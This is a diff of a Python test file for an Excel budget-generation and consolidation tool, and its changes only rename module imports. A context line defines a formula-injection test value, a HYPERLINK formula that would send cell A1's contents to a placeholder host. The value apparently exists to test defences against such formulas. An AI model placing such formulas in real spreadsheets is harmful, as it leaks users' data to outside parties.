@@ -17,9 +17,9 @@ from click.testing import CliRunner
 
 from libreoffice import convert
 from pac_excel import GenerateOptions, PlanData, generate, schema
-from pac_excel.analyze import analyze
+from pac_excel.analysis import analyze
 from pac_excel.cli import main
-from pac_excel.consolidate import consolidate
+from pac_excel.consolidation import consolidate
 
 AS_OF = date(2026, 11, 16)
 EVIL = '=HYPERLINK("http://x/?d="&A1,"Clic")'
@@ -251,7 +251,7 @@ def test_a_worker_that_dies_rejects_its_file_and_the_batch_goes_on(tmp_path, mon
     they carry the patched reader)."""
     import os
 
-    from pac_excel import consolidate as mod
+    from pac_excel import consolidation as mod
 
     budgets = _team_files(tmp_path, 5)
     real = mod.analyze
@@ -284,7 +284,7 @@ def test_a_result_that_cannot_come_back_rejects_its_file_only(tmp_path, monkeypa
     """Sending a worker's result back can fail (a MemoryError while pickling under the memory
     bound was seen in CI): the file is rejected (too_large, or unreadable with the reason), the
     other files are consolidated."""
-    from pac_excel import consolidate as mod
+    from pac_excel import consolidation as mod
 
     budgets = _team_files(tmp_path, 4)
     real = mod.analyze
@@ -310,7 +310,7 @@ _TIGHT = """
 import json, resource, sys
 from datetime import date
 from pathlib import Path
-from pac_excel import consolidate as mod
+from pac_excel import consolidation as mod
 
 def tight(mib):  # just above what the forked worker already maps
     with open("/proc/self/status") as fh:
